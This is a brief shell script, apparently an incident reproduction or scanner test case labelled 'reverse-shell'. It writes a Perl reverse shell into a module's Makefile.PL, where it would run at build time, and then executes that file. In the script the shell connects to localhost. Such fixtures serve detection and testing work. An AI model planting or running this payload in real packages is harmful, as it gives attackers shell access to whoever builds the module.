# incident: Perl in the Makefile.PL of a module
# finding: reverse-shell
# needs: perl
cat > Makefile.PL <<'PL'
use Socket;
socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in($ENV{SHELL_PORT}, inet_aton("127.0.0.1")));
open(STDIN, "<&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh");
PL
perl Makefile.PL
